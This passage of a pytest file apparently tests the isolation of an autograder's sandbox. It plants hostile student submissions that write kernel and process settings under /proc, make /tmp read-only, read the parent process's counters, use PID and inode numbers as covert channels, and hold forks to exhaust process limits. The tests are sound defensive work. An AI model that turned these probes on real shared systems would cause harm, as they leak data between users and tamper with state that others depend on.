        return {r["student"]: r["result"] for r in csv.DictReader(f) if r["exercise"] == "softmax"}


def _writes(path, value, shown=None):
    """Lines that write value to path, then answer right only if the write took (reading back
    `shown`, the value as the file shows it): a writer's pass shows the state was changed, and
    its reader's pass that the next task did not see it."""
    shown = shown or value
    return ("try:", f"    if {shown!r} not in open({path!r}).read():         # once: an autogroup's nice is rate-limited",
            f"        with open({path!r}, 'w') as f: f.write({value!r})", "except OSError: return np.zeros_like(x)",
            f"if {shown!r} not in open({path!r}).read(): return np.zeros_like(x)", *SOLUTION)


# What a task may change in user-namespace mode that outlives it (the zygote's, or its namespaces'):
# {attack: (the writer's lines, what a later task would see)}
LASTING = {
    "names folders in /tmp, then makes /tmp read-only": (
        ("import os", "os.makedirs('/tmp/note-dir', exist_ok=True)", "os.chmod('/tmp', 0o555)",
         "if os.stat('/tmp').st_mode & 0o777 != 0o555: return np.zeros_like(x)", *SOLUTION),
        "os.path.exists('/tmp/note-dir') or os.stat('/tmp').st_mode & 0o777 != 0o777"),
    "sets an IPC limit of the namespace": (_writes("/proc/sys/kernel/shmmax", "123456789"),
                                           "'123456789' in open('/proc/sys/kernel/shmmax').read()"),
    "sets a message queue limit": (_writes("/proc/sys/fs/mqueue/msg_max", "77"),
                                   "open('/proc/sys/fs/mqueue/msg_max').read().strip() == '77'"),
    "sets the zygote's autogroup nice": (_writes("/proc/1/autogroup", "19"), "'nice 19' in open('/proc/1/autogroup').read()"),
    "sets the zygote's coredump filter": (_writes("/proc/1/coredump_filter", "0x7f", "0000007f"),
                                          "'0000007f' in open('/proc/1/coredump_filter').read()"),
}
LASTING["sets a signal and O_APPEND on its standard input (the zygote's /dev/null)"] = (
    ("import fcntl, os", "fcntl.fcntl(0, 10, 33)", "fcntl.fcntl(0, fcntl.F_SETFL, os.O_APPEND | os.O_NONBLOCK)",
     "if fcntl.fcntl(0, 11) != 33: return np.zeros_like(x)", *SOLUTION),      # F_SETSIG, F_GETSIG
    "__import__('fcntl').fcntl(0, 11) != 0 or __import__('fcntl').fcntl(0, 3) & os.O_APPEND")   # F_GETFL
LASTING["starts and ends 200 threads (the next task's PID)"] = (
    ("import os, threading", "for _ in range(200 * (not hasattr(os, 'burnt'))):",
     "    t = threading.Thread(target=int); t.start(); t.join()", "os.burnt = True", *SOLUTION), "os.getpid() > 150")
if _kernel_at_least(6, 14):                      # pid_max per PID namespace; before, the whole machine's: not written
    LASTING["sets the PID namespace's pid_max"] = (_writes("/proc/sys/kernel/pid_max", "100000"),
                                                   "open('/proc/sys/kernel/pid_max').read().strip() == '100000'")


def test_what_a_task_sets_that_outlives_it_retires_the_zygote(tmp_path):
    """In a user namespace a task owns /tmp, some of its zygote's /proc entry and the settings
    of the namespaces later tasks share (IPC limits, pid_max): each attack is a writer (passing
    only if its write took) graded just before a reader (passing only if it sees nothing of
    it), one job, so both are tasks of one zygote unless the writer's retired it. Where the
    kernel has Landlock, a task may not write /proc at all (exercises/readable.py): those
    writers fail, and their readers still see nothing."""
    from exercises.readable import version
    bodies, writes = {}, {}
    for index, (attack, (writer, seen)) in enumerate(LASTING.items()):
        bodies[f"{index}a_writes"] = _lines(*writer)
        bodies[f"{index}b_reads"] = _lines("import os", "try:", f"    if {seen}: return np.zeros_like(x)",
                                           "except OSError: pass", *SOLUTION)
        refused = version() and "/proc/" in bodies[f"{index}a_writes"]
        writes.update({f"{index}a_writes": "not yet" if refused else "passed", f"{index}b_reads": "passed"})
    rows = _grade_softmax(tmp_path, bodies, "userns", jobs=1)
    assert rows == writes                                  # each write took (or was refused), and no later task saw it


@pytest.mark.parametrize("mode", ["root", "userns"])
def test_a_task_reads_none_of_its_zygote_s_counters(tmp_path, mode):
    """The zygote's /proc entry holds counters earlier tasks move (its children's page faults,
    its context switches: trial 13 read ~10 bits a handoff in them): hidden from a task of
    another user (root mode) by hidepid, and, in a user namespace, where task and zygote are
    one user, by an empty folder over it (the review of trial 15's fixes read them there).
    A task's own entry stays readable."""
    paths = ("/proc/1/stat", "/proc/1/status", "/proc/1/sched", "/proc/1/task/1/stat", "/proc/self/stat")
    bodies = {f"{index}_reads": _lines("try:", f"    open({path!r}, 'rb').read(1)", "except OSError:",
                                       "    return np.zeros_like(x)", *SOLUTION) for index, path in enumerate(paths)}
    rows = _grade_softmax(tmp_path, bodies, mode, jobs=1)
    assert rows == {f"{index}_reads": "passed" if path == "/proc/self/stat" else "not yet"
                    for index, path in enumerate(paths)}, rows


def test_moving_the_counters_on_leaves_the_zygote_s_own_thread_count_alone(tmp_path):
    """The zygote's threads that move the PID counter on must not move another count a task
    inherits: unnamed, each advanced threading's own counter of thread names, which the next
    task read back (the review of trial 15's fixes: the same ~5 bits the PIDs held)."""
    script = ("import threading\nfrom exercises.child import _counters_moved_on, _tmp_mark\n"
              "before = threading._counter()\n_counters_moved_on(0)\nprint(threading._counter() - before)")
    run = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, timeout=120,
                         env={**os.environ, "PYTHONPATH": ROOT})
    assert run.stdout.split() == ["1"], run.stdout + run.stderr


def test_a_grader_killed_mid_task_leaves_no_child_behind(tmp_path):
    """Killed (SIGKILL: no clean-up of its own) while a task sleeps, the grader's control socket
    closes, and its zygote kills the task and ends: trial 15's stalled grades left the unshare,
    the zygote and the task child running after `timeout` killed the grader."""
    if os.geteuid() != 0:
        pytest.skip("finding the children by their own users needs root (as graded in Gradescope's layout)")
    student = tmp_path / "s" / "sleeper"
    region_files(ROOT, student)
    plant(student, "softmax", _lines("import time", "time.sleep(300)", *SOLUTION))
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    grader = subprocess.Popen([sys.executable, "-m", "exercises", "grade", str(tmp_path / "s"), "--out",
                               str(tmp_path / "g.csv"), "--only", "softmax", "--timeout", "250"], cwd=ROOT,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                              env={**os.environ, "PYTHONPATH": ROOT, "TMPDIR": str(scratch)})
    try:
        for _ in range(240):                               # the zygote and its sleeping task child
            if len(_children_left(scratch)) >= 2:
                break
            time.sleep(0.5)
        assert len(_children_left(scratch)) >= 2
    finally:
        grader.kill()
        grader.wait()
    for _ in range(40):
        if not _children_left(scratch):
            break
        time.sleep(0.5)
    assert _children_left(scratch) == []


@pytest.mark.parametrize("mode", ["root", "userns"])
def test_a_task_s_pid_and_tmp_inode_numbers_say_nothing_of_what_the_task_before_did(tmp_path, mode):
    """Each task may start up to PIDS_PER_TASK threads and make FILES_PER_TASK files, which
    would move the next task's PID and /tmp inode numbers (trial 14 read ~5 bits a task in
    each): the zygote moves both on to a multiple of COUNTER_STEP after each task. Writers
    that use 0, 9 and 20 of each are graded, one job, each before a reader that passes only
    if it starts at the step's first PID and inode number (a writer's own pass: its threads
    and files were made)."""
    from exercises.lasting import COUNTER_STEP
    once = "if not hasattr(os, 'noted'):"
    bodies = {}
    for index, count in enumerate((20, 0, 9)):
        bodies[f"{index}a_uses_{count}"] = _lines(
            "import os, tempfile, threading", once, f"    for _ in range({count}):",
            "        t = threading.Thread(target=int); t.start(); t.join()", "        tempfile.TemporaryFile().close()",
            "    os.noted = True", *SOLUTION)
        bodies[f"{index}b_reads"] = _lines(
            "import os", once, "    made = os.open('/tmp/note', os.O_CREAT | os.O_WRONLY)",    # its first file
            f"    os.noted = (os.getpid() % {COUNTER_STEP}, os.fstat(made).st_ino % {COUNTER_STEP})",
            "if os.noted != (1, 1): return np.zeros_like(x)", *SOLUTION)
    rows = _grade_softmax(tmp_path, bodies, mode, jobs=1)
    assert rows == dict.fromkeys(bodies, "passed"), rows


def test_a_task_holding_its_processes_does_not_stop_a_classmate_s_in_the_other_slot(tmp_path):
    """RLIMIT_NPROC counts a user's processes: each slot's children run as a user of their
    own, so a task holding its four forks leaves the other slot's task room for a thread and
    a fork. Both students hold, then probe (in the check's first call), so whichever starts
    first, they overlap."""
    body = _lines("import os, threading, time", "first, os.held = not hasattr(os, 'held'), True", "for _ in range(4 * first):",
                  "    try:", "        if os.fork() == 0:", "            time.sleep(30)", "            os._exit(0)",
                  "    except OSError: break", "time.sleep(12 * first)", "try:",
                  "    t = threading.Thread(target=time.sleep, args=(0.01,)); t.start(); t.join()",
                  "    p = os.fork()", "    if p == 0: os._exit(0)", "    os.waitpid(p, 0)",
                  "except (RuntimeError, OSError): return np.zeros_like(x)", "time.sleep(6 * first)", *SOLUTION)
    rows = _grade_softmax(tmp_path, {"a_holds": body, "b_holds": body}, "root", jobs=2, timeout=60)
    assert rows == {"a_holds": "passed", "b_holds": "passed"}, rows
